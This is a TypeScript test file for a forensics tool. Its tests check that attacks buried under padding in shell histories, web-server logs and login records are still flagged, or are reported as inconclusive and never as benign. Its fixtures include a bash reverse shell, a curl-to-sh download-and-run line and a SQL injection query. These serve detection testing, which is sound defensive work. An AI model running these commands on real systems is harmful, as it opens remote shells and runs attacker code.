/** Artefacts that are padded: what a bound left out is said as our bound, counts as unread, and is never called benign. */
import { expect, test } from 'vitest';
import { createTimeline, gatherSource, judgeArtifact, readArtifact } from '../../../analysis/forensics/index.ts';
import { expectProportion } from '../../support/growth.ts';

const SHELL = 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1';
const judged = (name: string, text: string) => judgeArtifact(readArtifact(Buffer.from(text), name));
const IIS_HEAD =
  '#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) sc-status sc-substatus sc-win32-status time-taken\n';
const iisOf = (query: string) =>
  `2026-01-13 19:31:19 10.0.0.1 GET /x.asp ${query} 80 - 203.0.113.9 Mozilla/5.0 500 0 0 31\n`;
const SQLI = 'ID=1%27%20or%201%3D%40%40version--';
const login = (what: string, address: string) =>
  `Nov 28 10:00:00 web1 sshd[1000]: ${what} password for root from ${address} port 4000 ssh2\n`;

test.each<[string, string, string]>([
  ['a command behind 66 000 characters', '.bash_history', `ls\necho ${'A'.repeat(66_000)}; ${SHELL}\n`],
  ['a command in front of 70 000 characters', '.bash_history', `ls\n${SHELL} # ${'A'.repeat(70_000)}\n`],
  ['the last of 25 000 commands', '.bash_history', `${'ls\n'.repeat(25_000)}${SHELL}\n`],
  ['the first of 25 000 commands', '.bash_history', `${SHELL}\n${'ls\n'.repeat(25_000)}`],
  [
    'the gravest of 400 findings',
    '.bash_history',
    `${'chattr +i /tmp/.x\ncurl http://198.51.100.7/x | sh\n'.repeat(400)}${SHELL}\n`,
  ],
  ['a query of 1 100 characters', 'u_ex.log', `${IIS_HEAD}${iisOf(`a=${'b'.repeat(1_100)}&${SQLI}`)}`],
  ['a query of 60 000 characters', 'u_ex.log', `${IIS_HEAD}${iisOf(`a=${'b'.repeat(60_000)}&${SQLI}`)}`],
  ['a query of 300 000 characters', 'u_ex.log', `${IIS_HEAD}${iisOf(`a=${'b'.repeat(300_000)}&${SQLI}`)}`],
  [
    'a guessed login behind 21 000 others',
    'auth.log',
    `${'Nov 28 10:00:00 web1 CRON[1]: x\n'.repeat(21_000)}${login('Failed', '203.0.113.9').repeat(9)}${login('Accepted', '203.0.113.9')}`,
  ],
])('%s is found', (_, name, text) => {
  expect(judged(name, text)).toMatchObject({ severity: 'high' });
});

test('more commands than are read are our bound, not damage of the artefact, and are not counted as read', () => {
  const result = judged('.bash_history', 'ls\n'.repeat(25_002));
  expect(result).toMatchObject({
    verdict: 'inconclusive',
    findings: [],
    checked: [{ corpus: { items: 25_002, items_read: 20_000 } }],
  });
  expect(result.not_checked[0]).toEqual({
    what: '5002 commands between the first and the last 10000',
    why: '20000 commands of one history are read',
  });
});

test.each<[string, string, string]>([
  [
    'a command in the middle of a long one',
    '.bash_history',
    `ls\necho ${'A'.repeat(90_000)}; ${SHELL}; echo ${'A'.repeat(90_000)}\n`,
  ],
  [
    'a command in the middle of thousands',
    '.bash_history',
    `${'ls\n'.repeat(20_000)}${SHELL}\n${'ls\n'.repeat(20_000)}`,
  ],
  [
    'a query in the middle of a long one',
    'u_ex.log',
    `${IIS_HEAD}${iisOf(`a=${'b'.repeat(90_000)}&${SQLI}&a=${'b'.repeat(90_000)}`)}`,
  ],
])('%s is never benign', (_, name, text) => {
  const { verdict, checked, not_checked } = judged(name, text);
  expect(verdict).toBe('inconclusive');
  expect(checked[0]?.corpus.items_read).toBeLessThan(checked[0]?.corpus.items ?? 0);
  expect(not_checked[0]?.why).toMatch(/are read|too long|are counted/);
});

test('the guesser after ten thousand others is found', () => {
  const others = Array.from({ length: 10_001 }, (_, nth) =>
    login('Failed', `10.${nth >> 16}.${(nth >> 8) & 255}.${nth & 255}`),
  );
  const { findings } = judged('auth.log', `${others.join('')}${login('Failed', '203.0.113.9').repeat(6)}`);
  expect(findings.map(({ title }) => title)).toContainEqual(expect.stringContaining('from 203.0.113.9 failed'));
});

test('all login records are judged, though not all are listed', () => {
  const record = (host: string) => {
    const bytes = Buffer.alloc(384);
    bytes.writeUInt16LE(6, 0);
    bytes.write('ssh:notty', 8);
    bytes.write('root', 44);
    bytes.write(host, 76);
    bytes.writeInt32LE(1_764_000_000, 340);
    return bytes;
  };
  const others = Array.from({ length: 6_000 }, (_, index) => record(`host-${index}`));
  const guesses = Array.from({ length: 9 }, () => record('203.0.113.9'));
  const reading = readArtifact(Buffer.concat([...others, ...guesses]), 'btmp');
  expect(judgeArtifact(reading).findings[0]?.title).toBe('9 logins from 203.0.113.9 failed');
});

test('a timeline says which commands it does not hold, and counts them', async () => {
  const text = '#1764000000\nls\n'.repeat(25_000);
  async function* bytes() {
    yield await Promise.resolve(Buffer.from(text));
  }
  const { summary, unread } = await gatherSource(createTimeline(), { name: '.bash_history', bytes: bytes() });
  expect(summary).toMatchObject({ items: 25_000, items_read: 20_000 });
  expect(unread).toHaveLength(1);
});

const at = 'Nov 28 10:00:00 web1';
test.each<[string, string, string, (text: string) => string]>([
  ['an entry of cron', 'auth.log', ' ', (text) => `${at} CRON[1]: (root) CMD (ls${text}x\n`],
  ['an entry of cron', 'auth.log', ') ', (text) => `${at} CRON[1]: (root) CMD (ls${text}x\n`],
  ['an entry of sudo', 'auth.log', ' COMMAND', (text) => `${at} sudo[1]: a : ${text}\n`],
  ['an entry of doas', 'auth.log', ' as a from', (text) => `${at} doas[1]: a ran command ${text}\n`],
  ['a login', 'auth.log', 'sshd[1]: ', (text) => `${at} ${text}\n`],
  ['a line of a history', '.bash_history', 'A=b ', (text) => `${text}\n`],
  ['a record of the audit', 'audit.log', 'msg=audit(', (text) => `type=EXECVE msg=audit(1700000000.123:4): ${text}\n`],
])('%s in %s, padded with %j, costs time in proportion to its length (ATK-A9)', async (_, name, unit, textOf) => {
  await expectProportion(unit, 60_000, (text) => judged(name, textOf(text)));
});
